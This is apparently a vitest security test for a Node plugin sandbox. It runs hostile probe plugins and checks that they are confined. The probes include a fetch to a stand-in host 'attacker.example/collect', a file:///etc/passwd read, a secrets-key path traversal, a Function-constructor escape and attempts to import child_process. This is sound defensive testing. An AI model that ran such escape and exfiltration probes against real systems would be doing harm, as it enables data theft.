import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { networkNamespaceAvailable, PluginHost, PluginHostError } from '#core/plugin-host/index.js';
import { createVault } from '#core/vault/index.js';
import { tempDir } from '../support/test-server.js';
import { probeOutcomes, writePlugin } from './plugin-folders.js';

/*
 * Hostile plugins against the real sandbox: each runs in its own Node process started by the host.
 * Nothing is mocked; a plain http server on loopback records whether any connection ever arrives.
 */

const PROBE_PLUGIN = `
async function outcome(run) {
  try {
    const value = await run();
    return 'allowed:' + String(value).slice(0, 40);
  } catch (error) {
    return 'denied:' + (error && error.code ? error.code : String(error && error.message).slice(0, 60));
  }
}
export default {
  async importContacts(ctx) {
    const probes = {
      process: () => typeof process,
      require: () => typeof require,
      globalFetch: () => typeof fetch,
      buffer: () => typeof Buffer,
      importNet: () => import('node:net'),
      importChildProcess: () => import('node:child_process'),
      importFs: () => import('fs'),
      evalCode: () => eval('1 + 1'),
      functionConstructor: () => new Function('return 1')(),
      escapeThroughHostFunction: () => ctx.fetch.constructor('return process')(),
      fetchOtherHost: () => ctx.fetch('https://attacker.example/collect'),
      fetchLoopbackHttp: () => ctx.fetch(globalThis.TARGET),
      fetchAllowedHostOtherPort: () => ctx.fetch('https://example.org:8443/'),
      fetchFileScheme: () => ctx.fetch('file:///etc/passwd'),
      fetchUserInfo: () => ctx.fetch('https://user:pw@example.org/'),
      secretBadKey: () => ctx.secrets.get('../credential:slack:default'),
    };
    const contacts = [];
    for (const [name, run] of Object.entries(probes)) contacts.push({ displayName: name + '=' + (await outcome(run)), phones: [], identity: {} });
    return contacts;
  },
};
`;

describe('plugin code isolation', () => {
  let root: string;
  let target: http.Server;
  let targetUrl: string;
  const connections: string[] = [];
  const hosts: PluginHost[] = [];
  const vault = createVault({ service: `switchboard-plugin-host-test-${process.pid}` });

  const hostFor = (plugin: Awaited<ReturnType<typeof writePlugin>>, options: Partial<ConstructorParameters<typeof PluginHost>[0]> = {}) => {
    const host = new PluginHost({ plugin, vault, callTimeoutMs: 5000, ...options });
    hosts.push(host);
    return host;
  };

  beforeAll(async () => {
    root = tempDir('plugin-host-');
    target = http.createServer((req, res) => {
      connections.push(req.url ?? '');
      res.end('reached');
    });
    await new Promise<void>((resolve) => target.listen(0, '127.0.0.1', () => resolve()));
    targetUrl = `http://127.0.0.1:${(target.address() as AddressInfo).port}/leak`;
  });
  afterAll(async () => {
    for (const host of hosts) await host.stop({ final: true });
    target.closeAllConnections();
    await new Promise((resolve) => target.close(resolve));
    fs.rmSync(root, { recursive: true, force: true });
  });

  it('gives plugin code no process, require, fetch, built-in modules or eval, and refuses hosts outside allowedHosts', async () => {
    const source = PROBE_PLUGIN.replace('globalThis.TARGET', JSON.stringify(targetUrl));
    const host = hostFor(await writePlugin(root, 'probe', { 'main.mjs': source }));
    const outcomes = probeOutcomes((await host.importContacts()).contacts);
    expect(outcomes).toEqual({
      process: 'allowed:undefined',
      require: 'allowed:undefined',
      globalFetch: 'allowed:undefined',
      buffer: 'allowed:undefined',
      importNet: 'denied:ERR_VM_DYNAMIC_IMPORT_CALLBACK_MISSING',
      importChildProcess: 'denied:ERR_VM_DYNAMIC_IMPORT_CALLBACK_MISSING',
      importFs: 'denied:ERR_VM_DYNAMIC_IMPORT_CALLBACK_MISSING',
      evalCode: expect.stringMatching(/^denied:Code generation from strings disallowed/),
      functionConstructor: expect.stringMatching(/^denied:Code generation from strings disallowed/),
      escapeThroughHostFunction: expect.stringMatching(/^denied:Code generation from strings disallowed/),
      fetchOtherHost: 'denied:host_not_allowed',
      fetchLoopbackHttp: 'denied:scheme_not_allowed',
      fetchAllowedHostOtherPort: 'denied:host_not_allowed',
      fetchFileScheme: 'denied:scheme_not_allowed',
      fetchUserInfo: 'denied:invalid_url',
      secretBadKey: 'denied:invalid_secret_key',
    });
    expect(connections).toEqual([]);
  });

  it('refuses to load a plugin that imports a Node built-in or a file outside its folder', async () => {
    const builtin = hostFor(await writePlugin(root, 'imports-net', { 'main.mjs': "import net from 'node:net';\nexport default { async importContacts() { return [net]; } };\n" }));
    await expect(builtin.importContacts()).rejects.toMatchObject({ code: 'plugin_load_failed', pluginCode: 'import_denied' });

    fs.writeFileSync(path.join(root, 'outside.mjs'), 'export const secret = 1;\n');
    const outside = hostFor(await writePlugin(root, 'imports-outside', { 'main.mjs': "import { secret } from '../outside.mjs';\nexport default { async importContacts() { return [secret]; } };\n" }));
    await expect(outside.importContacts()).rejects.toMatchObject({ code: 'plugin_load_failed' });

    const ownFiles = hostFor(await writePlugin(root, 'own-files', {
      'main.mjs': "import { name } from './lib/name.mjs';\nexport default { async importContacts() { return [{ displayName: name, phones: ['+8613800138000', 'not a number'], identity: { handle: 'x' } }]; } };\n",
      'lib/name.mjs': "export const name = 'from a sibling file';\n",
    }));
    expect(await ownFiles.importContacts()).toEqual({ contacts: [{ displayName: 'from a sibling file', phones: ['+8613800138000'], identity: { handle: 'x' } }], droppedPhones: 1 });
  });

  it('keeps the sandbox process itself confined: empty env, no reads outside the plugin, no writes, no child processes, no network', async () => {
    // A stand-in for a sandbox the plugin has fully taken over: it runs with the host's process flags and
    // reports, through log messages, what the operating system and Node still let it do.
    const compromised = fileURLToPath(new URL('./fixtures/compromised-runner.mjs', import.meta.url));
    const plugin = await writePlugin(root, 'escaped', { 'main.mjs': 'export default {};\n', 'target.txt': targetUrl });
    const logs: string[] = [];
    const host = new PluginHost({ plugin, vault, runnerPath: compromised, onLog: (entry) => logs.push(entry.message) });
    hosts.push(host);
    await expect(host.importContacts()).rejects.toMatchObject({ code: 'not_implemented' });
    const report = JSON.parse(logs.find((line) => line.startsWith('{')) ?? '{}') as Record<string, string>;
    expect(report).toMatchObject({
      env: '{}',
      readPluginFolder: 'allowed',
      readOutside: 'denied:ERR_ACCESS_DENIED',
      writePluginFolder: 'denied:ERR_ACCESS_DENIED',
      childProcess: 'denied:ERR_ACCESS_DENIED',
      worker: 'denied:ERR_ACCESS_DENIED',
      nativeAddon: 'denied:ERR_DLOPEN_DISABLED',
    });
    if (networkNamespaceAvailable()) {
      expect(host.status().networkIsolated).toBe(true);
      expect(report.network).toMatch(/^denied:(ENETUNREACH|ECONNREFUSED)/);
      expect(connections).toEqual([]);
    } else {
      // Without unprivileged user namespaces Node 20 has no way to cut a process off the network.
      console.warn(`no network namespace here: a plugin that escaped the vm could connect (${report.network})`);
    }
  });

  it('contains a hang, a crash, out-of-memory and nonsense answers; the next call gets a fresh sandbox', async () => {
    const hang = hostFor(await writePlugin(root, 'hangs', {
      'main.mjs': "export default { async importContacts() { for (;;) {} }, async lookupIdentity() { return { handle: 'alive' }; } };\n",
    }, { capabilities: ['presence', 'contacts-import', 'identity-lookup'] }), { callTimeoutMs: 1000 });
    await expect(hang.importContacts()).rejects.toMatchObject({ code: 'plugin_timeout' });
    const firstPid = hang.status().pid;
    expect(await hang.lookupIdentity('+8613800138000')).toEqual({ handle: 'alive' });
    expect(hang.status().pid).not.toBe(firstPid);

    const oom = hostFor(await writePlugin(root, 'eats-memory', {
      'main.mjs': 'export default { async importContacts() { const hoard = []; for (;;) hoard.push(new Array(1e6).fill(hoard.length)); } };\n',
    }), { maxOldSpaceMb: 32, callTimeoutMs: 20_000 });
    await expect(oom.importContacts()).rejects.toMatchObject({ code: 'plugin_crashed' });

    const thrower = hostFor(await writePlugin(root, 'throws', {
      'main.mjs': "export default { async importContacts() { throw Object.assign(new Error('the network is down'), { code: 'network_down' }); } };\n",
    }));
    await expect(thrower.importContacts()).rejects.toMatchObject({ code: 'plugin_error', pluginCode: 'network_down' });

    const wrongShape = hostFor(await writePlugin(root, 'wrong-shape', {
      'main.mjs': "export default { async importContacts() { return [{ phones: 'not a list', identity: {}, extra: true }]; } };\n",
    }));
    const error = await wrongShape.importContacts().catch((failure: unknown) => failure);
    expect(error).toBeInstanceOf(PluginHostError);
    expect(error).toMatchObject({ code: 'invalid_result', message: expect.stringContaining('0.phones') });

    await expect(wrongShape.lookupIdentity('+8613800138000')).rejects.toMatchObject({ code: 'not_implemented' });
    await expect(wrongShape.lookupIdentity('12345')).rejects.toMatchObject({ code: 'invalid_argument' });
  });

  it('kills a sandbox that breaks the protocol and stops restarting one that keeps crashing', async () => {
    const liar = fileURLToPath(new URL('./fixtures/lying-runner.mjs', import.meta.url));
    const plugin = await writePlugin(root, 'liar', { 'main.mjs': 'export default {};\n' });
    const host = new PluginHost({ plugin, vault, runnerPath: liar, callTimeoutMs: 5000 });
    hosts.push(host);
    await expect(host.importContacts()).rejects.toMatchObject({ code: 'plugin_protocol_error' });
    await expect(host.importContacts()).rejects.toMatchObject({ code: 'plugin_protocol_error' });
    await expect(host.importContacts()).rejects.toMatchObject({ code: 'plugin_protocol_error' });
    await expect(host.importContacts()).rejects.toMatchObject({ code: 'plugin_crash_loop' });
    expect(host.status().running).toBe(false);
  });
});
